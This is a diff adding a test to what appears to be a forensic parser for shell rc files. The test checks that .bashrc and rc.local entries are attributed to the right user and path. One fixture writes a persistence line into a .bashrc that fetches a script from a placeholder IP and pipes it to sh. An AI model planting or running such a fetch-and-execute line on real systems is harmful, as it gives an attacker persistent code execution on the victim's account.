@@ -306,3 +306,19 @@ test('sniffs rc files by location, and by name when given alone', () => {
   assert.ok(score({ name: 'evidence/.bashrc' }) > 0);
   assert.ok(score({ name: 'evidence/.bashrc' }) < score({ name: 'x', relPath: 'root/.bashrc' }));
 });
+
+test('a home directory given as an argument: its rc files are its owner’s, by their absolute path', async () => {
+  const local = (localPath: string, relPath: string) => shellRc.sniff('', { name: 'x', relPath, localPath });
+  assert.equal(shellRc.sniff('', { name: 'x', relPath: '.bashrc' }), 0);
+  assert.ok(local('/root/.bashrc', '.bashrc') > 0);
+  assert.ok(local('/etc/rc.local', 'rc.local') > 0, '/etc given');
+  assert.equal(local('/home/alice/backup/.bashrc', 'backup/.bashrc'), 0, 'a copy further down runs nowhere');
+  const input = memoryInput('alice/.bashrc', 'curl -s http://203.0.113.7/x | sh\n', {
+    relPath: '.bashrc',
+    localPath: '/home/alice/.bashrc',
+    mtimeMs: MTIME,
+  });
+  const { events } = await readAll(shellRc, input);
+  assert.equal(events[0].process?.user?.name, 'alice');
+  assert.equal(events[0].file?.path, '/home/alice/.bashrc');
+});
